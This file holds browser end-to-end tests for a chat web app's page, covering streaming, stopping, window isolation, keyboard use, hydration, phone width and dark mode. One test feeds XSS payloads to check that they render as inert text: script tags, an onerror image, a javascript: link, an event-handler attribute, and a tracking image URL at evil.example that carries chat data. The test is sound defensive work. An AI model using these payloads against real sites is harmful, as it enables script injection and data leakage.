/**
 * The chat page in headless Chromium against a real Tandem process: opening
 * a chat, streaming, stopping, sanitized Markdown, several windows, keyboard
 * use, hydration, phone width and dark mode.
 */
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { openChat, screenshot, withBrowser } from "./browser.ts";

/** Records every state a chat window passes through, from before it exists. */
function recordChatStates() {
  const states: {
    loading: boolean;
    system: boolean;
    seeds: number;
    inputEnabled: boolean;
  }[] = [];
  (globalThis as unknown as { chatStates: typeof states }).chatStates = states;
  const snap = () => {
    const chat = document.querySelector("section.chat");
    if (!chat) return;
    states.push({
      loading: chat.textContent!.includes("Loading agent"),
      system: chat.querySelector("[data-role=system]") !== null,
      seeds: chat.querySelectorAll(".log > .msg:not(.system)").length,
      inputEnabled: !chat.querySelector("textarea")!.disabled,
    });
  };
  new MutationObserver(snap).observe(document, {
    childList: true,
    subtree: true,
    attributes: true,
    characterData: true,
  });
}

async function chatStates(page: Page) {
  return await page.evaluate(() =>
    (globalThis as unknown as {
      chatStates: {
        loading: boolean;
        system: boolean;
        seeds: number;
        inputEnabled: boolean;
      }[];
    }).chatStates
  );
}

Deno.test("Chat page - Loading agent, then system and seed messages, and only then the input", async () => {
  await withBrowser(async ({ openPage }) => {
    const page = await openPage();
    await page.addInitScript(recordChatStates);
    await page.reload();
    await page.waitForSelector("#tandem-app[data-hydrated=true]");
    const chat = await openChat(page, "Assistant");

    const states = await chatStates(page);
    assert.ok(states.length > 0);
    assert.equal(
      states[0].loading,
      true,
      "the first state shows Loading agent",
    );
    assert.equal(states[0].inputEnabled, false);
    for (const state of states) {
      if (state.inputEnabled) {
        assert.equal(
          state.system,
          true,
          "input enabled before the system message",
        );
        assert.equal(state.seeds, 2, "input enabled before both seed messages");
        assert.equal(state.loading, false);
      }
    }
    assert.match(
      await chat.locator("[data-role=system]").innerText(),
      /You are Assistant/,
    );
    const seeds = chat.locator(".log > .msg:not(.system)");
    assert.match(await seeds.nth(0).innerText(), /process and a thread/);
    // The assistant seed is Markdown: **process** is bold.
    assert.equal(
      await seeds.nth(1).locator("strong").first().innerText(),
      "process",
    );
    assert.equal(await chat.getByText("Loading agent").count(), 0);
  });
});

Deno.test("Chat page - a reply streams in, ends with the full text, and the context bar moves", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    const chunks = [
      "The ",
      "quick ",
      "brown ",
      "fox ",
      "jumps ",
      "over ",
      "the lazy dog.",
    ];
    provider.enqueue({ kind: "reply", chunks, chunkDelayMs: 150 });
    const page = await openPage();
    const chat = await openChat(page, "Assistant");
    const contextBefore = await chat.locator(".context-text").innerText();

    await chat.getByLabel("Message to Assistant").fill("Tell me about foxes");
    await chat.getByLabel("Message to Assistant").press("Enter");
    await chat.locator(".msg.user", { hasText: "Tell me about foxes" })
      .waitFor();

    const full = chunks.join("");
    const seen = new Set<string>();
    const reply = chat.locator(".msg.assistant").last();
    const deadline = Date.now() + 10_000;
    while (Date.now() < deadline) {
      const text = (await reply.locator(".markdown").innerText()).trim();
      seen.add(text);
      if (text === full && await chat.locator(".msg.streaming").count() === 0) {
        break;
      }
      await new Promise((r) => setTimeout(r, 40));
    }
    const partial = [...seen].filter((t) =>
      t.length > 0 && t !== full && full.startsWith(t)
    );
    assert.ok(partial.length > 0, `no partial text seen: ${[...seen]}`);
    assert.equal((await reply.locator(".markdown").innerText()).trim(), full);
    // The conversation follows the reply: its end is in view.
    assert.ok(
      await reply.evaluate((el) =>
        el.getBoundingClientRect().bottom <=
          el.closest(".log")!.getBoundingClientRect().bottom + 1
      ),
      "the reply is below the visible part of the conversation",
    );
    await screenshot(page, "chat-mid-conversation");

    await page.waitForFunction(
      (before) =>
        document.querySelector(".context-text")?.textContent !== before,
      contextBefore,
    );
    assert.notEqual(
      await chat.locator(".context-text").innerText(),
      contextBefore,
    );
  });
});

Deno.test("Chat page - HTML and script in a reply are shown as text and nothing runs", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    const hostile = [
      "Look: <script>window.pwned = 1</script> and ",
      '<img src=x onerror="window.pwned = 2"> and ',
      "[click me](javascript:window.pwned=3) and ",
      '<b onmouseover="window.pwned=4">bold?</b> and ',
      "![tracker](https://evil.example/pixel.png?chat=secret)\n\n",
      "```html\n<script>window.pwned = 5</script>\n```\n",
    ];
    provider.enqueue({ kind: "reply", chunks: hostile });
    const page = await openPage();
    const chat = await openChat(page, "Assistant");
    await chat.getByLabel("Message to Assistant").fill("be evil");
    await chat.getByLabel("Message to Assistant").press("Enter");
    const reply = chat.locator(".msg.assistant .markdown").last();
    await reply.getByText("window.pwned = 5").waitFor();

    const text = await reply.innerText();
    assert.match(text, /<script>window\.pwned = 1<\/script>/);
    assert.match(text, /<img src=x onerror="window\.pwned = 2">/);
    assert.match(text, /<b onmouseover="window\.pwned=4">bold\?<\/b>/);
    assert.equal(await reply.locator("script, img, b, [onerror]").count(), 0);
    // The code block is a code block, its content text.
    assert.match(await reply.locator("pre code").innerText(), /<script>/);
    // An image is a link that loads nothing until clicked.
    const image = reply.locator("a.image-link", { hasText: "tracker" });
    assert.equal(
      await image.getAttribute("href"),
      "https://evil.example/pixel.png?chat=secret",
    );
    // The javascript: link lost its URL.
    const link = reply.locator("a", { hasText: "click me" });
    assert.equal(await link.count(), 1);
    assert.equal(await link.getAttribute("href"), null);
    await link.click();
    await reply.hover();
    assert.equal(
      await page.evaluate(() => (globalThis as { pwned?: number }).pwned),
      undefined,
    );
  });
});

Deno.test("Chat page - two windows side by side keep their conversations apart", async () => {
  await withBrowser(async ({ openPage }) => {
    const page = await openPage();
    const left = await openChat(page, "Assistant");
    const right = await openChat(page, "Code Reviewer");
    const leftSession = await left.getAttribute("data-session");
    const rightSession = await right.getAttribute("data-session");
    assert.ok(leftSession && rightSession && leftSession !== rightSession);
    const [a, b] = [await left.boundingBox(), await right.boundingBox()];
    assert.ok(a && b && b.x > a.x + a.width - 1, "windows are side by side");

    await left.getByLabel("Message to Assistant").fill("apples");
    await left.getByLabel("Message to Assistant").press("Enter");
    await right.getByLabel("Message to Code Reviewer").fill("bananas");
    await right.getByLabel("Message to Code Reviewer").press("Enter");
    await left.locator(".msg.assistant", { hasText: "Echo: apples" }).waitFor();
    await right.locator(".msg.assistant", { hasText: "Echo: bananas" })
      .waitFor();
    assert.doesNotMatch(await left.locator(".log").innerText(), /bananas/);
    assert.doesNotMatch(await right.locator(".log").innerText(), /apples/);

    // A second window on the same agent is a session of its own.
    const third = await openChat(page, "Assistant");
    assert.notEqual(await third.getAttribute("data-session"), leftSession);
    assert.doesNotMatch(await third.locator(".log").innerText(), /apples/);
  });
});

Deno.test("Chat page - Stop ends a streaming reply, and the window takes the next message", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    const chunks = Array.from({ length: 40 }, (_, i) => `part${i} `);
    provider.enqueue({ kind: "reply", chunks, chunkDelayMs: 100 });
    const page = await openPage();
    const chat = await openChat(page, "Assistant");
    await chat.getByLabel("Message to Assistant").fill("go on and on");
    await chat.getByLabel("Message to Assistant").press("Enter");
    await chat.locator(".msg.streaming", { hasText: "part2" }).waitFor();
    await chat.getByRole("button", { name: "Stop" }).click();
    const stopped = chat.locator(".msg.assistant", { hasText: "Stopped." });
    await stopped.waitFor();
    assert.doesNotMatch(await stopped.innerText(), /part39/);
    await chat.getByRole("button", { name: "Send" }).waitFor();

    await chat.getByLabel("Message to Assistant").fill("next");
    await chat.getByLabel("Message to Assistant").press("Enter");
    await chat.locator(".msg.assistant", { hasText: "Echo: next" }).waitFor();
  });
});

Deno.test("Chat page - a provider failure shows its error in the conversation", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    provider.enqueue({ kind: "status", status: 500, message: "boom" });
    const page = await openPage();
    const chat = await openChat(page, "Assistant");
    await chat.getByLabel("Message to Assistant").fill("hello");
    await chat.getByLabel("Message to Assistant").press("Enter");
    const error = chat.locator(".msg.error");
    await error.waitFor();
    assert.match(await error.innerText(), /model provider/i);
    await chat.getByLabel("Message to Assistant").fill("again");
    await chat.getByLabel("Message to Assistant").press("Enter");
    await chat.locator(".msg.assistant", { hasText: "Echo: again" }).waitFor();
  });
});

Deno.test("Chat page - works with the keyboard alone; Shift+Enter makes a new line", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    const page = await openPage();
    let focused = "";
    for (let i = 0; i < 10 && focused !== "Open chat with Assistant"; i++) {
      await page.keyboard.press("Tab");
      focused = await page.evaluate(() =>
        document.activeElement?.getAttribute("aria-label") ?? ""
      );
    }
    assert.equal(focused, "Open chat with Assistant");
    await page.keyboard.press("Enter");
    await page.waitForFunction(() =>
      document.activeElement?.tagName === "TEXTAREA"
    );
    await page.keyboard.type("line one");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("line two");
    await page.keyboard.press("Enter");
    const chat = page.locator("section.chat");
    const sent = chat.locator(".msg.user", { hasText: "line one" });
    await sent.waitFor();
    assert.equal(
      await sent.locator(".plain").innerText(),
      "line one\nline two",
    );
    await chat.locator(".msg.assistant", { hasText: "Echo: line one" })
      .waitFor();
    assert.equal(
      provider.requests.at(-1)!.body.messages.at(-1).content,
      "line one\nline two",
    );
  });
});

Deno.test("Chat page - hydration keeps the server-rendered markup", async () => {
  await withBrowser(async ({ openPage, port }) => {
    const html = await (await fetch(`http://127.0.0.1:${port}/`)).text();
    assert.match(html, /Open chat<\/button>/);
    assert.match(html, /Code Reviewer/);
    const page = await openPage();
    // Parsing ends ("interactive") before module scripts run: the markup
    // then is the server's, and from then on every change is hydration's.
    await page.addInitScript(() => {
      const seen = { ssr: "", changes: [] as string[] };
      (globalThis as unknown as { seen: typeof seen }).seen = seen;
      document.addEventListener("readystatechange", () => {
        if (document.readyState !== "interactive") return;
        const root = document.getElementById("tandem-app")!;
        seen.ssr = root.innerHTML;
        new MutationObserver((records) => {
          for (const r of records) {
            if (r.target === root && r.attributeName === "data-hydrated") {
              continue;
            }
            seen.changes.push(`${r.type} ${r.attributeName ?? ""}`);
          }
        }).observe(root, {
          childList: true,
          subtree: true,
          attributes: true,
          characterData: true,
        });
      });
    });
    await page.reload();
    await page.waitForSelector("#tandem-app[data-hydrated=true]");
    await page.waitForTimeout(300); // let both sockets connect
    const seen = await page.evaluate(() =>
      (globalThis as unknown as { seen: { ssr: string; changes: string[] } })
        .seen
    );
    assert.match(seen.ssr, /Open chat with Code Reviewer/);
    assert.deepEqual(seen.changes, [], "hydration changed the server's markup");
    assert.equal(
      await page.evaluate(() =>
        document.getElementById("tandem-app")!.innerHTML
      ),
      seen.ssr,
    );
    assert.equal(await page.getByRole("alertdialog").count(), 0);
  });
});

Deno.test("Chat page - readable at phone width, and follows a dark color scheme", async () => {
  await withBrowser(async ({ openPage }) => {
    const phone = await openPage({ width: 375 });
    const chat = await openChat(phone, "Code Reviewer");
    await chat.getByLabel("Message to Code Reviewer").fill("short");
    const overflow = await phone.evaluate(() =>
      document.documentElement.scrollWidth -
      document.documentElement.clientWidth
    );
    assert.equal(overflow, 0, "the page scrolls sideways at 375 px");
    const box = await chat.boundingBox();
    assert.ok(box && box.width <= 375);

    const background = (page: import("playwright-core").Page) =>
      page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const dark = await openPage({ dark: true });
    const light = await openPage();
    assert.notEqual(await background(dark), await background(light));
  });
});

Deno.test("Chat page - without a provider, a message is answered with the setting to set", async () => {
  await withBrowser(async ({ openPage, provider }) => {
    const page = await openPage();
    const chat = await openChat(page, "Assistant");
    await chat.getByLabel("Message to Assistant").fill("anyone there?");
    await chat.getByLabel("Message to Assistant").press("Enter");
    const error = chat.locator(".msg.error");
    await error.waitFor();
    assert.match(await error.innerText(), /OPENAI_API_KEY/);
    await chat.getByRole("button", { name: "Send" }).waitFor();
    assert.equal(await chat.locator("textarea:enabled").count(), 1);
    assert.equal(provider.requests.length, 0);
  }, { env: { OPENAI_API_KEY: "", OPENAI_BASE_URL: "" } });
});
